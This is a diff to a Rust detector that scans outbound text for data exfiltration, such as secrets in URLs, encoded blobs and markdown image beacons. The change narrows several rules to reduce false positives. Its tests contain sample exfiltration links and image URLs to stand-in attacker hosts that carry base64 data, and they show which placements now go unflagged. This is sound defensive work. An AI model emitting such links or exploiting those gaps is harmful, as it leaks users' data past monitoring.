@@ -42,7 +42,8 @@ static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| {
         )
         .ok()?,
         b64_blob: Regex::new(r"[A-Za-z0-9+/_-]{100,}={0,2}").ok()?,
-        hex_blob: Regex::new(r"\b(?:[0-9a-fA-F]{2}){48,}\b").ok()?,
+        // Longer than a SHA-512 digest, which outbound text quotes routinely.
+        hex_blob: Regex::new(r"\b(?:[0-9a-fA-F]{2}){65,}\b").ok()?,
     })
 });
 
@@ -242,7 +243,9 @@ fn judge_url(raw: &str, start: usize, carrier: Carrier, allowed: &[String], out:
     let decoded = decode(url.as_str());
     let mut s = Vec::new();
     secrets::detect(&decoded, &mut s);
-    if let Some(f) = s.first() {
+    // Entropy-only hits are what "encoded data" means below; here only
+    // provider formats and credential-named values count.
+    if let Some(f) = s.iter().find(|f| f.score >= 0.7) {
         out.push(finding(
             "secret_in_url",
             start,
@@ -278,10 +281,19 @@ fn judge_url(raw: &str, start: usize, carrier: Carrier, allowed: &[String], out:
         return;
     }
 
+    // A bare URL in prose is judged only on secrets and PII: long ids in
+    // document links are too common to read as smuggled data.
+    if carrier == Carrier::Bare {
+        return;
+    }
     let mut values: Vec<String> = url.query_pairs().map(|(_, v)| v.into_owned()).collect();
-    values.extend(url.path_segments().into_iter().flatten().map(decode));
     if let Some(fr) = url.fragment() {
         values.push(decode(fr));
+    }
+    // Path segments count only for zero-click fetches; a clicked link's path
+    // is usually a document id.
+    if matches!(carrier, Carrier::Image | Carrier::Html) {
+        values.extend(url.path_segments().into_iter().flatten().map(decode));
     }
     let query_len = url.query().map_or(0, str::len);
     if values.iter().any(|v| encoded_value(v)) || query_len >= 200 {
@@ -335,9 +347,17 @@ mod tests {
     }
 
     #[test]
-    fn link_with_data_in_path_fires() {
-        let text = format!("[click here](https://collect.attacker.io/c/{B64}/x)");
+    fn link_with_data_in_query_fires() {
+        let text = format!("[click here](https://collect.attacker.io/c?d={B64})");
         assert_eq!(types(&text, &[]), vec!["link_exfil"]);
+        // In the path it is only read as data when the URL loads by itself.
+        let text = format!("[doc](https://docs.attacker.io/d/{B64})");
+        assert!(run(&text, &[]).is_empty());
+        let text = format!("![x](https://px.attacker.io/{B64}.png)");
+        assert_eq!(types(&text, &[]), vec!["markdown_image_exfil"]);
+        // Bare URLs: only secrets and PII count.
+        let text = format!("see https://docs.attacker.io/d?x={B64}");
+        assert!(run(&text, &[]).is_empty());
     }
 
     #[test]
@@ -391,9 +411,11 @@ mod tests {
         assert!(types(&text, &[]).contains(&"data_uri".to_string()));
         let text = format!("here it is: {payload}");
         assert_eq!(types(&text, &[]), vec!["encoded_blob"]);
-        let hex: String = payload.bytes().map(|b| format!("{b:02x}")).take(60).collect();
+        let hex: String = payload.bytes().map(|b| format!("{b:02x}")).take(80).collect();
         assert_eq!(types(&format!("dump {hex} end"), &[]), vec!["encoded_blob"]);
-        // A long number is not a hex blob; a long identifier is not base64.
+        // A SHA-512 digest, a long number and a long identifier are not blobs.
+        let sha512 = "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e";
+        assert!(run(sha512, &[]).is_empty());
         assert!(run(&"7".repeat(200), &[]).is_empty());
         assert!(run(&"a_long_snake_case_identifier_".repeat(5), &[]).is_empty());
     }
